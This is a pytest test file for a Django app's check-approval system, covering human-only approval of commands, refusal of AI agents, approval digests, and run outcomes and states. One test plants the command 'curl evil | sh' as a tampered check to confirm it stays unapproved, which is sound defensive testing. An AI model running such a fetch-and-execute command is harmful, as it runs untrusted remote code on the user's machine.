"""Rules of checks, their approval on a clone, and their results."""

from __future__ import annotations

from collections.abc import Callable
from datetime import timedelta
from typing import Any

import pytest
from django.core.exceptions import ValidationError
from django.utils import timezone

from projects.models import Check, CheckRun, OpenedRun, Project, ReportedTree, User, WorkItem
from projects.models.check_run import MAX_OUTPUT, SKEW, Report
from projects.models.exceptions import CheckUntrusted, Conflict, NotYours

pytestmark = pytest.mark.django_db
Make = Callable[..., WorkItem]
TREE, OTHER = "a" * 40, "b" * 40
PASS = Report(exit_code=0, duration_ms=5, tree_before=TREE, tree_after=TREE)


@pytest.fixture
def person(db: None) -> User:
    return User.objects.actor("pat", is_agent=False)


@pytest.fixture
def item(make_item: Make) -> WorkItem:
    return make_item()


@pytest.fixture
def check(project: Project, person: User) -> Check:
    return Check.objects.create(actor=person, project=project, name="unit", command="make test")


def run(check: Check, item: WorkItem, actor: User, report: Report = PASS) -> CheckRun:
    return OpenedRun.open(check, item, digest=check.digest, actor=actor).finish(report, actor=actor)


def state(item: WorkItem, tree: str | None = None) -> str:
    item.worktree = tree
    (one,) = CheckRun.objects.all().states(item)
    return one.state


def test_agent_does_not_define_change_delete_restore_or_approve(check: Check, project: Project, user: User) -> None:
    for write in (
        lambda: Check.objects.create(actor=user, project=project, name="mine", command="true"),
        lambda: check.update(actor=user, command="true"),
        lambda: check.update(actor=user, requirement="optional"),
        lambda: check.soft_delete(actor=user),
        lambda: check.restore(actor=user),
        lambda: check.approve(actor=user, digest=check.digest),
    ):
        with pytest.raises(NotYours, match="only a person can"):
            write()
    assert Check.objects.get().command == "make test"


def test_person_through_the_login_link_of_an_agent_is_refused(project: Project, person: User) -> None:
    person.via = "claude"
    with pytest.raises(NotYours, match="not through a login link of claude"):
        Check.objects.create(actor=person, project=project, name="mine", command="true")


def test_one_character_voids_the_approval(check: Check, item: WorkItem, user: User, person: User) -> None:
    assert check.is_approved
    Check.objects.filter(pk=check.pk).update(command="make tes")  # as a sync or an import writes it
    changed = Check.objects.select_related("project").get()
    assert not changed.is_approved
    with pytest.raises(CheckUntrusted, match="no person has approved on this clone what these checks run: unit"):
        OpenedRun.open(changed, item, digest=changed.digest, actor=user)
    with pytest.raises(Conflict, match="another one by now"):
        changed.approve(actor=person, digest=check.digest)
    changed.approve(actor=person, digest=changed.digest)
    assert changed.is_approved


def test_approval_does_not_hold_with_the_secret_key_of_another_clone(check: Check, settings: Any) -> None:
    settings.SECRET_KEY = "another" * 10
    assert not check.is_approved


def test_change_of_an_unapproved_check_by_a_person_does_not_approve_its_command(check: Check, person: User) -> None:
    Check.objects.filter(pk=check.pk).update(command="curl evil | sh")
    changed = Check.objects.select_related("project").get()
    changed.update(actor=person, timeout_seconds=5)
    assert not changed.is_approved
    changed.update(actor=person, command="make all")
    assert changed.is_approved


def test_check_applies_to_the_types_that_it_names(check: Check, make_item: Make, person: User) -> None:
    assert Check.objects.of_item(make_item(item_type="bug")) == [check]
    assert Check.objects.of_item(make_item(item_type="chore")) == []
    check.update(actor=person, item_types="Chore, bug")
    assert check.item_types == "bug,chore"
    with pytest.raises(ValidationError, match="job is not an item type"):
        check.update(actor=person, item_types="job")


def test_run_takes_one_result_of_the_session_that_opened_it(check: Check, item: WorkItem, user: User) -> None:
    opened = OpenedRun.open(check, item, digest=check.digest, actor=user)
    other = User.objects.actor("eve")
    with pytest.raises(NotYours, match="only the session that opened a run"):
        opened.finish(PASS, actor=other)
    opened.finish(PASS, actor=user)
    assert not OpenedRun.objects.exists()
    with pytest.raises(Conflict, match="has its result already"):
        opened.finish(PASS, actor=user)
    assert CheckRun.objects.count() == 1


@pytest.mark.parametrize(
    ("report", "outcome"),
    [
        (PASS, "passed"),
        (PASS._replace(exit_code=2), "failed"),
        (PASS._replace(exit_code=None), "timed_out"),
        (PASS._replace(tree_after=OTHER), "changed"),
        (PASS._replace(exit_code=2, tree_after=OTHER), "failed"),
    ],
)
def test_outcome_follows_from_the_report(
    check: Check, item: WorkItem, user: User, report: Report, outcome: str
) -> None:
    assert run(check, item, user, report).outcome == outcome


@pytest.mark.parametrize(
    "values", [{"tree_after": "x"}, {"tree_before": "A" * 40}, {"commit": "1"}, {"duration_ms": 10_000 + SKEW}]
)
def test_report_that_can_not_be_true_is_refused(
    check: Check, item: WorkItem, user: User, values: dict[str, Any]
) -> None:
    with pytest.raises(ValidationError):
        run(check, item, user, PASS._replace(**values))
    assert not CheckRun.objects.exists()


def test_result_that_comes_too_late_or_after_the_closing_is_refused(check: Check, item: WorkItem, user: User) -> None:
    late = OpenedRun.open(check, item, digest=check.digest, actor=user)
    late.opened_at = timezone.now() - timedelta(days=1)
    with pytest.raises(Conflict, match="too late"):
        late.finish(PASS, actor=user)
    opened = OpenedRun.open(check, item, digest=check.digest, actor=user)
    item.update(actor=user, status="done")
    with pytest.raises(Conflict, match="evidence is frozen"):
        opened.finish(PASS, actor=user)


def test_output_keeps_its_end_as_text(check: Check, item: WorkItem, user: User) -> None:
    found = run(check, item, user, PASS._replace(output="x" * 9000 + "\x1b[31mred\r\n€end\n"))
    assert len(found.output.encode()) <= MAX_OUTPUT
    assert found.output.endswith("\N{REPLACEMENT CHARACTER}[31mred\n€end")


def test_state_follows_the_content(check: Check, item: WorkItem, user: User, person: User) -> None:
    assert state(item) == "not_run"
    OpenedRun.open(check, item, digest=check.digest, actor=user)
    assert state(item) == "not_run"  # an opened run is never a pass
    run(check, item, user)
    assert (state(item), state(item, TREE), state(item, OTHER)) == ("passed", "passed", "stale")
    run(check, item, user, PASS._replace(exit_code=1, tree_before=OTHER, tree_after=OTHER))
    assert (state(item), state(item, TREE), state(item, OTHER)) == ("failed", "passed", "failed")
    check.update(actor=person, command="make all")
    assert state(item, TREE) == "edited"
    check.update(actor=person, command="make test")
    ReportedTree.objects.note(item, "c" * 40)
    assert state(item) == "failed"
    item.update(actor=user, status="done")
    assert state(item) == "failed"  # frozen: the latest result


def test_pass_outside_of_a_repository_is_bound_to_no_content(check: Check, item: WorkItem, user: User) -> None:
    run(check, item, user, PASS._replace(tree_before="", tree_after=""))
    assert state(item) == "unbound"


def test_result_never_changes(check: Check, item: WorkItem, user: User, person: User) -> None:
    found = run(check, item, user)
    for write in (lambda: found.update(actor=person, outcome="failed"), lambda: found.soft_delete(actor=person)):
        with pytest.raises(NotYours, match="can't be changed or deleted"):
            write()


def test_check_is_found_by_its_name_in_any_case(check: Check, make_project: Callable[..., Project]) -> None:
    assert Check.pk_by_reference("UNIT") == check.pk
    assert Check.pk_by_reference("none") is None
    other = Check.objects.create(actor=check.created_by, project=make_project("PTWO"), name="Unit", command="true")
    with pytest.raises(Conflict, match=f"{check.pk} in PONE, {other.pk} in PTWO"):
        Check.pk_by_reference("unit")
    assert Check.pk_by_reference("unit", "PTWO") == other.pk
    other.soft_delete(actor=check.created_by)
    assert Check.pk_by_reference("unit") == check.pk
